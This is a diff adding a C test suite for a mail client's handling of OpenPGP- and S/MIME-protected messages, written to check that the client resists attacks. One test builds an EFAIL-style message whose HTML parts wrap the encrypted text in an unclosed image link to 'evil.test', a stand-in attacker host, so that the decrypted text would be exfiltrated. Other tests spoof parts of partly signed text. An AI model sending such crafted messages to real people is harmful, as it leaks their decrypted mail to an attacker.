@@ -1,0 +1,462 @@
+/* SPDX-License-Identifier: GPL-3.0-or-later */
+#include <string.h>
+
+#include "model/pr-protected.h"
+#include "support/pr-test-gnupg.h"
+
+#define HEADER                                                                    \
+  "From: Ada <ada@example.org>\r\nTo: Charles <charles@example.org>\r\nSubject: " \
+  "...\r\nDate: Thu, 1 Jan 2026 12:00:00 +0000\r\nMIME-Version: 1.0\r\n"
+#define LETTER                                                                        \
+  "Content-Type: multipart/mixed; boundary=in\r\nSubject: The engine\r\n\r\n--in\r\n" \
+  "\r\nThe engine weaves.\r\n--in\r\nContent-Type: text/plain; name=cards.txt\r\n"    \
+  "Content-Disposition: attachment; filename=cards.txt\r\n\r\ncards\r\n--in--\r\n"
+
+static void
+set_up (PrTestGnupg *f, gconstpointer keys)
+{
+  pr_test_gnupg_set_up (f, (PrTestKeys) GPOINTER_TO_INT (keys));
+}
+
+static void
+tear_down (PrTestGnupg *f, gconstpointer keys)
+{
+  pr_test_gnupg_tear_down (f);
+}
+
+/* ---- messages ---- */
+
+/* Takes @text. */
+static PrMessage *
+make_message (char *text)
+{
+  g_autoptr (GBytes) raw = g_bytes_new_take (text, strlen (text));
+
+  return pr_message_new (raw);
+}
+
+/* A multipart/encrypted, as an entity. */
+static char *
+make_encrypted (PrTestGnupg *f, const char *entity, gboolean is_signed)
+{
+  g_autofree char *armor = pr_test_gnupg_encrypt (f, entity, is_signed);
+
+  return g_strconcat (
+    "Content-Type: multipart/encrypted; boundary=e; "
+    "protocol=\"application/pgp-encrypted\"\r\n\r\n--e\r\nContent-Type: "
+    "application/pgp-encrypted\r\n\r\nVersion: 1\r\n--e\r\nContent-Type: "
+    "application/octet-stream\r\n\r\n",
+    armor, "\r\n--e--\r\n", NULL);
+}
+
+static char *
+make_smime (PrTestGnupg *f, const char *entity, gboolean encrypted)
+{
+  g_autofree char *lines = pr_test_gnupg_smime (f, entity, encrypted);
+
+  return g_strconcat ("Content-Type: application/pkcs7-mime; name=smime.p7m\r\n"
+                      "Content-Transfer-Encoding: base64\r\n\r\n",
+                      lines, NULL);
+}
+
+/* Takes @entity. */
+static PrMessage *
+make_whole (char *entity)
+{
+  PrMessage *message = make_message (g_strconcat (HEADER, entity, NULL));
+
+  g_free (entity);
+  return message;
+}
+
+static PrProtected *
+open_one (PrMessage *message)
+{
+  g_autoptr (GPtrArray) all = pr_protected_list (message, -1);
+
+  g_assert_cmpuint (all->len, ==, 1);
+  return g_ptr_array_steal_index (all, 0);
+}
+
+static void
+assert_text (const PrProtected *what, const char *expected)
+{
+  g_autofree char *text = NULL;
+
+  g_assert_cmpint (what->state, ==, PR_PROTECTED_OPENED);
+  text = pr_message_dup_text (what->message);
+  g_assert_cmpstr (g_strchomp (text), ==, expected);
+}
+
+static void
+assert_says (const PrProtected *what, const char *words)
+{
+  if (strstr (what->details, words) == NULL)
+    g_error ("“%s” does not say “%s”", what->details, words);
+}
+
+/* ---- OpenPGP ---- */
+
+static void
+test_encrypted_message_is_read (PrTestGnupg *f, gconstpointer keys)
+{
+  g_autoptr (PrMessage) message = NULL;
+  PrProtected *what;
+  const PrEnvelope *envelope;
+
+  if (!f->usable)
+    return;
+  message = make_whole (make_encrypted (f, LETTER, FALSE));
+  what = open_one (message);
+  assert_text (what, "The engine weaves.");
+  g_assert_true (what->whole);
+  g_assert_cmpstr (what->title, ==, "Decrypted with OpenPGP");
+  assert_says (what, "It is not signed: anybody may have written it");
+  assert_says (what, "Decrypted with key ");
+  assert_says (what, "Encrypted subject: The engine");
+  g_assert_cmpuint (pr_message_get_parts (what->message)->len, ==, 2);
+  /* Of whom and when it is, the outer header says; the octets stay what came. */
+  envelope = pr_message_get_envelope (what->message);
+  g_assert_cmpuint (envelope->from->len, ==, 1);
+  g_assert_cmpstr (envelope->subject, ==, "...");
+  g_assert_true (pr_message_get_raw (what->message) == pr_message_get_raw (message));
+  pr_protected_free (what);
+}
+
+static void
+test_signer_inside_is_told (PrTestGnupg *f, gconstpointer keys)
+{
+  g_autoptr (PrMessage) message = NULL;
+  PrProtected *what;
+  const PrSigner *signer;
+
+  if (!f->usable)
+    return;
+  message = make_whole (make_encrypted (f, LETTER, TRUE));
+  what = open_one (message);
+  assert_text (what, "The engine weaves.");
+  assert_says (what, "Signed by Ada Lovelace <ada@example.org>\nKey ");
+  g_assert_false (what->warns);
+  g_assert_cmpuint (what->signers->len, ==, 1);
+  signer = g_ptr_array_index (what->signers, 0);
+  g_assert_cmpstr (signer->state, ==, "good");
+  g_assert_true (signer->verified);
+  pr_protected_free (what);
+}
+
+/* As RFC 3156 §6.1 has it: a multipart/signed is what was encrypted. */
+static void
+test_signed_inside_of_encrypted_is_verified (PrTestGnupg *f, gconstpointer keys)
+{
+  static const char part[] = "Content-Type: text/plain\r\n\r\nThe engine weaves.\r\n";
+  const char *const sign[] = { "gpg",     "--batch",       "--quiet",
+                               "--armor", "--detach-sign", NULL };
+  g_autoptr (GBytes) signature = NULL;
+  g_autoptr (PrMessage) message = NULL;
+  g_autofree char *entity = NULL;
+  PrProtected *what;
+
+  if (!f->usable)
+    return;
+  signature = pr_test_gnupg_run (f, part, sign);
+  entity =
+    g_strdup_printf ("Content-Type: multipart/signed; boundary=s; micalg=pgp-sha512; "
+                     "protocol=\"application/pgp-signature\"\r\n\r\n--s\r\n%s\r\n--s\r\n"
+                     "Content-Type: application/pgp-signature\r\n\r\n%.*s\r\n--s--\r\n",
+                     part, (int) g_bytes_get_size (signature),
+                     (const char *) g_bytes_get_data (signature, NULL));
+  message = make_whole (make_encrypted (f, entity, FALSE));
+  what = open_one (message);
+  assert_text (what, "The engine weaves.");
+  assert_says (what, "Signed by Ada Lovelace <ada@example.org>");
+  g_assert_false (what->warns);
+  pr_protected_free (what);
+}
+
+static void
+test_without_the_key_it_is_told_for_whom (PrTestGnupg *f, gconstpointer keys)
+{
+  g_autoptr (PrMessage) message = NULL;
+  PrProtected *what;
+
+  if (!f->usable)
+    return;
+  message = make_whole (make_encrypted (f, LETTER, FALSE));
+  pr_test_gnupg_forget (f);
+  what = open_one (message);
+  g_assert_cmpint (what->state, ==, PR_PROTECTED_NO_KEY);
+  g_assert_null (what->message);
+  g_assert_cmpstr (what->title, ==, "Encrypted, and the key for it is not here");
+  assert_says (what, "Import your secret key");
+  assert_says (what, "Encrypted for key ");
+  pr_protected_free (what);
+}
+
+/* The attack of 2018: what stands around the encrypted part would send its text away. */
+static void
+test_encrypted_part_waits_and_is_read_alone (PrTestGnupg *f, gconstpointer keys)
+{
+  g_autofree char *inner = NULL;
+  g_autoptr (PrMessage) message = NULL;
+  g_autoptr (GPtrArray) before = NULL;
+  g_autoptr (GPtrArray) after = NULL;
+  const PrProtected *what;
+  g_autofree char *html = NULL;
+
+  if (!f->usable)
+    return;
+  inner = make_encrypted (f, "Content-Type: text/html\r\n\r\n<p>The secret\r\n", FALSE);
+  message = make_message (
+    g_strconcat (HEADER, "Content-Type: multipart/mixed; boundary=o\r\n\r\n--o\r\n",
+                 "Content-Type: text/html\r\n\r\n<img src=\"http://evil.test/\r\n--o\r\n",
+                 inner, "\r\n--o\r\nContent-Type: text/html\r\n\r\n\">\r\n--o--\r\n",
+                 NULL));
+  before = pr_protected_list (message, -1);
+  g_assert_cmpuint (before->len, ==, 1);
+  what = g_ptr_array_index (before, 0);
+  g_assert_cmpint (what->state, ==, PR_PROTECTED_WAITS);
+  g_assert_false (what->whole);
+  g_assert_null (what->message);
+  after = pr_protected_list (message, 0);
+  what = g_ptr_array_index (after, 0);
+  assert_text (what, "The secret");
+  html = pr_message_dup_html (what->message);
+  g_assert_null (strstr (html, "evil.test"));
+  assert_says (what, "Only a part of this message was encrypted");
+}
+
+static void
+test_passphrase_is_not_asked_for_unwanted (PrTestGnupg *f, gconstpointer keys)
+{
+  const char *const arguments[] = {
+    "gpg",      "--batch",      "--quiet",  "--armor",     "--pinentry-mode",
+    "loopback", "--passphrase", "Jacquard", "--symmetric", NULL
+  };
+  g_autoptr (GBytes) armor = NULL;
+  g_autoptr (PrMessage) message = NULL;
+  PrProtected *what;
+
+  if (!f->usable)
+    return;
+  armor = pr_test_gnupg_run (f, "words", arguments);
+  message =
+    make_message (g_strdup_printf ("%s\r\n%.*s", HEADER, (int) g_bytes_get_size (armor),
+                                   (const char *) g_bytes_get_data (armor, NULL)));
+  what = open_one (message);
+  g_assert_cmpint (what->state, ==, PR_PROTECTED_WAITS);
+  g_assert_true (what->encrypted);
+  pr_protected_free (what);
+}
+
+/* ---- in the text ---- */
+
+static void
+test_armor_that_is_the_text_is_read (PrTestGnupg *f, gconstpointer keys)
+{
+  g_autofree char *armor = NULL;
+  g_autoptr (PrMessage) message = NULL;
+  PrProtected *what;
+
+  if (!f->usable)
+    return;
+  armor = pr_test_gnupg_encrypt (f, "Der Webstuhl läuft.\n", TRUE);
+  message = make_message (g_strconcat (HEADER, "\r\n", armor, NULL));
+  what = open_one (message);
+  assert_text (what, "Der Webstuhl läuft.");
+  assert_says (what, "Signed by Ada Lovelace");
+  pr_protected_free (what);
+}
+
+static void
+test_files_stay_beside_a_text_in_armor (PrTestGnupg *f, gconstpointer keys)
+{
+  g_autofree char *armor = NULL;
+  g_autoptr (PrMessage) message = NULL;
+  PrProtected *what;
+
+  if (!f->usable)
+    return;
+  armor = pr_test_gnupg_clear_sign (f, "See the file.\n");
+  message = make_message (g_strconcat (
+    HEADER, "Content-Type: multipart/mixed; boundary=o\r\n\r\n--o\r\n",
+    "Content-Type: text/plain\r\n\r\n", armor,
+    "\r\n--o\r\nContent-Type: application/pdf; name=a.pdf\r\nContent-Disposition: "
+    "attachment\r\n\r\n%PDF\r\n--o--\r\n",
+    NULL));
+  what = open_one (message);
+  assert_text (what, "See the file.");
+  g_assert_cmpuint (pr_message_get_parts (what->message)->len, ==, 2);
+  assert_says (what, "Only a part of this message is signed");
+  g_assert_true (what->warns);
+  pr_protected_free (what);
+}
+
+static void
+test_signed_region_is_told_apart (PrTestGnupg *f, gconstpointer keys)
+{
+  g_autofree char *armor = NULL;
+  g_autoptr (PrMessage) message = NULL;
+  PrProtected *what;
+
+  if (!f->usable)
+    return;
+  armor = pr_test_gnupg_clear_sign (f, "Pay nothing.\n");
+  message =
+    make_message (g_strconcat (HEADER, "\r\nPay Eve.\r\n", armor, "Thanks.\r\n", NULL));
+  what = open_one (message);
+  assert_text (what, "Pay nothing.");
+  g_assert_false (what->whole);
+  g_assert_cmpstr (what->title, ==, "Signed by Ada Lovelace <ada@example.org>");
+  assert_says (what, "Only a part of this message is signed");
+  g_assert_true (what->warns);
+  pr_protected_free (what);
+}
+
+static void
+test_changed_text_in_armor_is_told (PrTestGnupg *f, gconstpointer keys)
+{
+  g_autofree char *armor = NULL;
+  g_autoptr (PrMessage) message = NULL;
+  PrProtected *what;
+
+  if (!f->usable)
+    return;
+  armor = pr_test_gnupg_clear_sign (f, "Pay nothing.\n");
+  memcpy (strstr (armor, "nothing"), "1000000", 7);
+  message = make_message (g_strconcat (HEADER, "\r\n", armor, NULL));
+  what = open_one (message);
+  g_assert_cmpstr (what->title, ==, "The signature does not match: the text was changed");
+  g_assert_true (what->warns);
+  pr_protected_free (what);
+}
+
+/* ---- S/MIME ---- */
+
+static void
+test_smime_is_read (PrTestGnupg *f, gconstpointer keys)
+{
+  g_autoptr (PrMessage) message = NULL;
+  PrProtected *what;
+
+  if (!f->usable)
+    return;
+  message = make_whole (make_smime (f, LETTER, TRUE));
+  what = open_one (message);
+  assert_text (what, "The engine weaves.");
+  g_assert_true (what->whole && what->smime && what->encrypted);
+  assert_says (what, "S/MIME does not show whether what is not signed was changed");
+  pr_protected_free (what);
+}
+
+static void
+test_opaque_smime_signature_is_opened (PrTestGnupg *f, gconstpointer keys)
+{
+  g_autoptr (PrMessage) message = NULL;
+  PrProtected *what;
+
+  if (!f->usable)
+    return;
+  message = make_whole (make_smime (f, LETTER, FALSE));
+  what = open_one (message);
+  assert_text (what, "The engine weaves.");
+  g_assert_false (what->encrypted);
+  g_assert_true (g_str_has_prefix (what->title, "Signed by "));
+  pr_protected_free (what);
+}
+
+static void
+test_layers_of_smime_are_opened (PrTestGnupg *f, gconstpointer keys)
+{
+  g_autofree char *is_signed = NULL;
+  g_autoptr (PrMessage) message = NULL;
+  PrProtected *what;
+
+  if (!f->usable)
+    return;
+  is_signed = make_smime (f, LETTER, FALSE);
+  message = make_whole (make_smime (f, is_signed, TRUE));
+  what = open_one (message);
+  assert_text (what, "The engine weaves.");
+  g_assert_true (what->encrypted);
+  assert_says (what, "Signed by ");
+  pr_protected_free (what);
+}
+
+/* ---- without keys ---- */
+
+static void
+test_other_mail_is_not_looked_at (void)
+{
+  g_autoptr (PrMessage) message = make_message (g_strdup (
+    HEADER
+    "\r\n> -----BEGIN PGP MESSAGE-----\r\n> x\r\n> -----END PGP MESSAGE-----\r\n"));
+  g_autoptr (GPtrArray) all = pr_protected_list (message, -1);
+  g_autofree char *text = pr_message_dup_text (message);
+  PrOpened opened = { .message = message, .text = (char *) "Hello\n" };
+
+  g_assert_cmpuint (all->len, ==, 0);
+  g_assert_false (pr_protected_may_be_in (&opened));
+}
+
+static void
+listed_cb (GObject *source, GAsyncResult *result, gpointer user_data)
+{
+  GError **error = user_data;
+
+  g_assert_null (pr_protected_list_finish (result, error));
+}
+
+static void
+test_listing_can_be_cancelled (void)
+{
+  g_autoptr (PrMessage) message = make_message (g_strdup (HEADER "\r\nx\r\n"));
+  g_autoptr (GCancellable) cancellable = g_cancellable_new ();
+  g_autoptr (GError) error = NULL;
+
+  g_cancellable_cancel (cancellable);
+  pr_protected_list_async (message, -1, cancellable, listed_cb, &error);
+  while (error == NULL)
+    g_main_context_iteration (NULL, TRUE);
+  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
+}
+
+static void
+add (const char *path, PrTestKeys keys, void (*test) (PrTestGnupg *f, gconstpointer keys))
+{
+  g_test_add (path, PrTestGnupg, GINT_TO_POINTER (keys), set_up, test, tear_down);
+}
+
+int
+main (int argc, char *argv[])
+{
+  const PrTestKeys pgp = PR_TEST_OPENPGP;
+
+  g_test_init (&argc, &argv, NULL);
+
+  add ("/protected/encrypted-message-is-read", pgp, test_encrypted_message_is_read);
+  add ("/protected/signer-inside-is-told", pgp, test_signer_inside_is_told);
+  add ("/protected/signed-inside-of-encrypted-is-verified", pgp,
+       test_signed_inside_of_encrypted_is_verified);
+  add ("/protected/without-the-key-it-is-told-for-whom", pgp,
+       test_without_the_key_it_is_told_for_whom);
+  add ("/protected/encrypted-part-waits-and-is-read-alone", pgp,
+       test_encrypted_part_waits_and_is_read_alone);
+  add ("/protected/passphrase-is-not-asked-for-unwanted", pgp,
+       test_passphrase_is_not_asked_for_unwanted);
+  add ("/protected/armor-that-is-the-text-is-read", pgp,
+       test_armor_that_is_the_text_is_read);
+  add ("/protected/files-stay-beside-a-text-in-armor", pgp,
+       test_files_stay_beside_a_text_in_armor);
+  add ("/protected/signed-region-is-told-apart", pgp, test_signed_region_is_told_apart);
+  add ("/protected/changed-text-in-armor-is-told", pgp,
+       test_changed_text_in_armor_is_told);
+  add ("/protected/smime-is-read", PR_TEST_SMIME, test_smime_is_read);
+  add ("/protected/opaque-smime-signature-is-opened", PR_TEST_SMIME,
+       test_opaque_smime_signature_is_opened);
+  add ("/protected/layers-of-smime-are-opened", PR_TEST_SMIME,
+       test_layers_of_smime_are_opened);
+  g_test_add_func ("/protected/other-mail-is-not-looked-at",
+                   test_other_mail_is_not_looked_at);
+  g_test_add_func ("/protected/listing-can-be-cancelled", test_listing_can_be_cancelled);
+  return g_test_run ();
+}
